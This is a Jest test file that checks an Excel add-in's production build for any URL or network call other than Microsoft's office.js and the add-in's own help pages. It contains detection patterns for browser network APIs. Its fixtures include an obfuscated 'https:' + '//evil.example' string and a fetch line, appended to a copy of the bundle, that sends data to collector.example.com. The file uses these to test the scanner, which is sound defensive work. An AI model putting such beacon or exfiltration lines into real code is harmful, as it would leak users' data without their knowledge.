/**
 * No network access at run time, as far as the built files can show it: every file in dist/ is
 * scanned for URLs (http://, https://, ws://, wss://, ftp://, protocol-relative //host) and, in
 * code, for the ways a page reaches the network (fetch, XMLHttpRequest, WebSocket, EventSource,
 * sendBeacon, importScripts, workers, dynamic import, injected <script>, CSS url()/@import).
 * Needs `npm run build:addin` first (npm test builds).
 *
 * Allowed, and nothing else:
 * - Microsoft's CDN office.js, https://appsforoffice.microsoft.com/lib/1/hosted/office.js, and its
 *   origin in taskpane.html's Content-Security-Policy. An Office add-in must load office.js from
 *   there (build-output.test.ts checks the script tags and the policy).
 * - Our own help pages on the add-in's host: functions.json's helpUrl entries,
 *   <host>/help.html#FUNCTION, where <host> is where a manifest's SourceLocation puts the pages
 *   (https://localhost:3000/ in manifest.xml; ADDIN_HOST's in manifest.prod.xml). Excel opens
 *   them when asked for help on a function; the page itself fetches nothing.
 *
 * Decided, with reasons:
 * - manifest.xml and manifest.*.xml are not scanned. A manifest names the add-in's host by design
 *   (SourceLocation, icons, support page, AppDomain) and XML namespace URIs that are names, not
 *   addresses; Office reads it, no page of ours loads it. manifest.test.ts checks that every URL in
 *   it is https on the add-in's host and names a file the build emits, and that is the stricter check.
 * - *.LICENSE.txt files are documentation, not code: webpack (Terser's extractComments) moves the
 *   `/*! … *\/` licence comments of bundled libraries (decimal.js names its GitHub page) out of the
 *   bundles into them; no page loads them. They are allowed URLs only inside comments: the test
 *   checks that such a file is nothing but comments.
 * - The bundles themselves (functions.js, taskpane.js) get no such allowance: a URL there, in a
 *   string or a comment, fails. Production bundles carry no comments (they went to the .LICENSE.txt
 *   files), so even a bare `//` in them is reported: that catches a URL assembled from pieces
 *   ("https:" + "//host") as well as a protocol-relative one.
 * - Images (assets/*.png) are data, not read for URLs; any other kind of file fails the test until
 *   someone decides how to scan it.
 * This cannot prove the absence of a URL built at run time from character codes; the browser test
 * (test/taskpane/browser.test.ts) checks that the running pane makes no request off its host.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";

const DIST = path.resolve(__dirname, "..", "..", "dist");
const OFFICE_JS_CDN = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js";
const OFFICE_JS_ORIGIN = "https://appsforoffice.microsoft.com";

type FileKind = "js" | "html" | "css" | "json" | "licence" | "image" | "manifest";

interface Finding {
  file: string;
  what: string;
  /** The text around it, for the failure message. */
  context: string;
}

interface Allowed {
  /** URLs allowed exactly (after trailing punctuation is dropped). */
  exact: readonly string[];
  /** URLs allowed by pattern. */
  patterns: readonly RegExp[];
}

const URL_PATTERN = /\b(?:https?|wss?|ftp):\/\/[^\s"'`<>()\\]*/gi;
/** //host.name or //localhost, not after a scheme's colon, a word character or another slash. */
const PROTOCOL_RELATIVE = /(?<![:\w/\\])\/\/(?:[a-z0-9-]+\.)+[a-z]{2,}\b|(?<![:\w/\\])\/\/localhost\b/gi;
/** The ways code reaches the network without a literal URL. */
const NETWORK_CALLS: readonly [string, RegExp][] = [
  ["fetch(", /\bfetch\s*\(/g],
  ["XMLHttpRequest", /\bXMLHttpRequest\b/g],
  ["WebSocket", /\bWebSocket\b/g],
  ["EventSource", /\bEventSource\b/g],
  ["sendBeacon", /\bsendBeacon\b/g],
  ["importScripts", /\bimportScripts\b/g],
  ["a worker", /\bnew\s+(?:Shared)?Worker\s*\(|\bserviceWorker\b/g],
  ["RTCPeerConnection", /\bRTCPeerConnection\b/g],
  ["dynamic import()", /(?<![\w$.])import\s*\(/g],
  ['a <script> element made in code', /createElement\s*\(\s*["'`]script["'`]\s*\)/gi],
];

function contextOf(text: string, index: number, length: number): string {
  return text.slice(Math.max(0, index - 40), index + length + 40).replace(/\s+/g, " ");
}

function isAllowed(url: string, allowed: Allowed): boolean {
  return allowed.exact.includes(url) || allowed.patterns.some((pattern) => pattern.test(url));
}

/** Every URL, protocol-relative host and network call in one file's text that is not allowed. */
function scanText(file: string, text: string, kind: FileKind, allowed: Allowed): Finding[] {
  const findings: Finding[] = [];
  const add = (what: string, index: number, length: number) => findings.push({ file, what, context: contextOf(text, index, length) });
  if (kind === "image" || kind === "manifest") return findings;
  if (kind === "licence") {
    // Only comments: whatever is left once they are taken out must be blank.
    const rest = text.replace(/\/\*[\s\S]*?\*\//g, "").replace(/^\s*\/\/.*$/gm, "");
    if (rest.trim() !== "") add(`text outside a comment: ${JSON.stringify(rest.trim().slice(0, 60))}`, text.indexOf(rest.trim()), 0);
    return findings;
  }
  for (const match of text.matchAll(URL_PATTERN)) {
    const url = match[0].replace(/[.,;:]+$/, "");
    if (!isAllowed(url, allowed)) add(`URL ${url}`, match.index, match[0].length);
  }
  for (const match of text.matchAll(PROTOCOL_RELATIVE)) add(`protocol-relative ${match[0]}`, match.index, match[0].length);
  if (kind === "js") {
    for (const [name, pattern] of NETWORK_CALLS) for (const match of text.matchAll(pattern)) add(name, match.index, match[0].length);
    // A production bundle has no comments, so a "//" can only be (part of) an address.
    const withoutAllowedUrls = text.replace(URL_PATTERN, (url) => (isAllowed(url.replace(/[.,;:]+$/, ""), allowed) ? "" : url));
    for (const match of withoutAllowedUrls.matchAll(/\/\//g)) add("a // in minified code", match.index, 2);
  }
  if (kind === "css") {
    for (const match of text.matchAll(/@import\b|url\(\s*(?!["']?(?:data:|#))[^)]*\)/gi)) add(`stylesheet load ${match[0]}`, match.index, match[0].length);
  }
  if (kind === "html") {
    for (const match of text.matchAll(/<(?:link|script|img|iframe|source|object|embed)\b[^>]*\b(?:src|href|data)=["']?([^"'\s>]+)/gi)) {
      const target = match[1];
      // Files next to the page, and fragments, are ours; anything with a scheme was checked above.
      if (/^[a-z][a-z0-9+.-]*:/i.test(target) && !/^data:/i.test(target) && !isAllowed(target, allowed)) add(`load of ${target}`, match.index, match[0].length);
    }
  }
  return findings;
}

function kindOf(file: string): FileKind | null {
  const name = path.basename(file);
  if (/^manifest(\..+)?\.xml$/.test(name)) return "manifest";
  if (name.endsWith(".LICENSE.txt")) return "licence";
  if (/\.(m?js)$/.test(name)) return "js";
  if (name.endsWith(".html")) return "html";
  if (name.endsWith(".css")) return "css";
  if (name.endsWith(".json")) return "json";
  if (/\.(png|ico)$/.test(name)) return "image";
  return null;
}

function filesUnder(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    return entry.isDirectory() ? filesUnder(full) : [full];
  });
}

/** Where the add-in's pages are served, from each manifest's SourceLocation ("https://localhost:3000/" in a development build). */
function addinBases(dir: string): string[] {
  const manifests = fs.readdirSync(dir).filter((name) => kindOf(name) === "manifest");
  if (!manifests.includes("manifest.xml")) throw new Error(`no manifest.xml in ${dir}`);
  return manifests.map((name) => {
    const source = /<SourceLocation\s+DefaultValue="([^"]+)"/.exec(fs.readFileSync(path.join(dir, name), "utf8"));
    if (!source) throw new Error(`${name} names no SourceLocation`);
    return new URL(".", source[1]).href;
  });
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

function allowedFor(bases: readonly string[]): Allowed {
  return {
    exact: [OFFICE_JS_CDN, OFFICE_JS_ORIGIN],
    patterns: bases.map((base) => new RegExp(`^${escapeRegExp(base)}help\\.html(#[A-Z_]+)?$`)),
  };
}

/** Every finding in a build directory; a file of a kind nobody has decided on is a finding too. */
function scanBuild(dir: string): { scanned: string[]; findings: Finding[] } {
  const allowed = allowedFor(addinBases(dir));
  const scanned: string[] = [];
  const findings: Finding[] = [];
  for (const full of filesUnder(dir)) {
    const file = path.relative(dir, full).split(path.sep).join("/");
    const kind = kindOf(file);
    if (kind === null) {
      findings.push({ file, what: "a kind of file this test does not know how to scan", context: "" });
      continue;
    }
    if (kind === "image" || kind === "manifest") continue;
    scanned.push(file);
    findings.push(...scanText(file, fs.readFileSync(full, "utf8"), kind, allowed));
  }
  return { scanned, findings };
}

describe("the scanner (on strings: it must find what it is for)", () => {
  const allowed = allowedFor(["https://localhost:3000/"]);
  const found = (text: string, kind: FileKind) => scanText("x", text, kind, allowed).map((f) => f.what);

  test.each([
    ['fetch("https://telemetry.example.com/hit")', ["URL https://telemetry.example.com/hit", "fetch(", "a // in minified code"]],
    ["const u='http://localhost:8080/x'", ["URL http://localhost:8080/x", "a // in minified code"]],
    ['new WebSocket("wss://live.example.net")', ["URL wss://live.example.net", "WebSocket", "a // in minified code"]],
    ['x.src="//cdn.example.com/lib.js"', ["protocol-relative //cdn.example.com", "a // in minified code"]],
    ['var h="https:"+"//evil.example"', ["protocol-relative //evil.example", "a // in minified code"]],
    ["navigator.sendBeacon(a,b)", ["sendBeacon"]],
    ["importScripts(a)", ["importScripts"]],
    ["new XMLHttpRequest", ["XMLHttpRequest"]],
    ["new EventSource(u)", ["EventSource"]],
    ["new Worker(u)", ["a worker"]],
    ["import(u).then(f)", ["dynamic import()"]],
    ['document.createElement("script")', ["a <script> element made in code"]],
    ["/* see https://github.com/someone/lib */var a=1", ["URL https://github.com/someone/lib", "a // in minified code"]],
    // Our help page, but from another host than the manifest's, or another page on our host: not allowed.
    ['"https://example.org/help.html#HUDSON_TOTAL"', ["URL https://example.org/help.html#HUDSON_TOTAL", "a // in minified code"]],
    ['"https://localhost:3000/api/track"', ["URL https://localhost:3000/api/track", "a // in minified code"]],
  ])("JS %s", (text, expected) => {
    expect(found(text, "js")).toEqual(expected);
  });

  test("HTML, CSS, JSON and licence files", () => {
    expect(found('<script src="https://cdn.example.com/a.js"></script>', "html")).toEqual(["URL https://cdn.example.com/a.js", "load of https://cdn.example.com/a.js"]);
    expect(found('<img src="//tracker.example.com/p.gif">', "html")).toEqual(["protocol-relative //tracker.example.com"]);
    expect(found("a{background:url(https://x.example.com/i.png)}", "css")).toEqual(["URL https://x.example.com/i.png", "stylesheet load url(https://x.example.com/i.png)"]);
    expect(found('@import "other.css";', "css")).toEqual(["stylesheet load @import"]);
    expect(found('{"helpUrl":"https://localhost:3000/help.html#HUDSON_TOTAL","x":"ftp://files.example.com"}', "json")).toEqual(["URL ftp://files.example.com"]);
    expect(found("/*! lib v1 https://github.com/a/b MIT */\nfetch('https://x.example')", "licence")).toEqual([
      "text outside a comment: \"fetch('https://x.example')\"",
    ]);
  });

  test("what is allowed passes", () => {
    expect(found(`<script src=${OFFICE_JS_CDN}></script><meta content="script-src 'self' ${OFFICE_JS_ORIGIN}; connect-src 'self'">`, "html")).toEqual([]);
    expect(found('<link rel=stylesheet href=taskpane.css><a href=#HUDSON_TOTAL>', "html")).toEqual([]);
    expect(found('{"helpUrl": "https://localhost:3000/help.html#PILOTAGE_UNITS"}', "json")).toEqual([]);
    expect(found("a{background:url(data:image/png;base64,AAAA)}", "css")).toEqual([]);
    expect(found("/*!\n * decimal.js v10.6.0\n * https://github.com/MikeMcl/decimal.js\n */\n", "licence")).toEqual([]);
    expect(found("const a=b/c/d,e=/x\\/y/;navigator.clipboard.writeText(t)", "js")).toEqual([]);
  });
});

describe("dist/ (the production build)", () => {
  test("has no URL or network call other than office.js's CDN and our help pages", () => {
    const { scanned, findings } = scanBuild(DIST);
    // The files that matter are there and were read.
    expect(scanned).toEqual(expect.arrayContaining(["functions.js", "taskpane.js", "taskpane.html", "taskpane.css", "help.html", "functions.json"]));
    expect(findings).toEqual([]);
  });

  test("the bundles' licence comments went to .LICENSE.txt files, and those are comments only", () => {
    const licences = filesUnder(DIST).filter((file) => kindOf(file) === "licence");
    for (const licence of licences) expect(fs.existsSync(licence.replace(/\.LICENSE\.txt$/, ""))).toBe(true);
    expect(licences.map((file) => path.basename(file)).sort()).toEqual(expect.arrayContaining(["functions.js.LICENSE.txt", "taskpane.js.LICENSE.txt"]));
  });

  test("fails when a URL is put into a copy of the build", () => {
    const copy = fs.mkdtempSync(path.join(os.tmpdir(), "bundle-urls-"));
    try {
      fs.cpSync(DIST, copy, { recursive: true });
      const bundle = path.join(copy, "taskpane.js");
      fs.appendFileSync(bundle, ';fetch("https://collector.example.com/q?"+t);');
      fs.appendFileSync(path.join(copy, "functions.json"), '\n{"x":"https://example.net/data.json"}');
      fs.writeFileSync(path.join(copy, "extra.wasm"), "");
      // A production manifest allows the help pages on its host, and no other page there.
      const prod = fs.readFileSync(path.join(copy, "manifest.xml"), "utf8").replace(/https:\/\/localhost:3000\//g, "https://addin.example.com/pilotage/");
      fs.writeFileSync(path.join(copy, "manifest.prod.xml"), prod);
      fs.appendFileSync(path.join(copy, "help.html"), '<a href="https://addin.example.com/pilotage/help.html#HUDSON_TOTAL">x</a><a href="https://addin.example.com/pilotage/other.html">y</a>');
      expect(scanBuild(copy).findings.map((f) => `${f.file}: ${f.what}`)).toEqual([
        "extra.wasm: a kind of file this test does not know how to scan",
        "functions.json: URL https://example.net/data.json",
        "help.html: URL https://addin.example.com/pilotage/other.html",
        "taskpane.js: URL https://collector.example.com/q?",
        "taskpane.js: fetch(",
        "taskpane.js: a // in minified code",
      ]);
    } finally {
      fs.rmSync(copy, { recursive: true, force: true });
    }
  });
});
